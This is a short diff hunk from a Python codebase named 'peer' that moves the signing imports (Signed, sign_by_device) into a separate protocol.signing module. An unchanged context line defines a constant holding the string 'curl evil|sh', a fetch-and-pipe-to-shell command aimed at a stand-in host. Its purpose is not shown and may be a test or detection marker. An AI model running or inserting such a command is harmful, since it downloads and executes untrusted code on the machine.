@@ -19,7 +19,8 @@ from peer.mesh.courier import wire
 from peer.mesh.streams import Stream
 from peer.programs import daemon
 from peer.protocol.acknowledgements import Acknowledgement
-from peer.protocol.statements import DeviceStatement, Dispatch, Signed, sign_by_device
+from peer.protocol.signing import Signed, sign_by_device
+from peer.protocol.statements import DeviceStatement, Dispatch
 from peer.steps import context
 
 MARK: Final = "curl evil|sh"
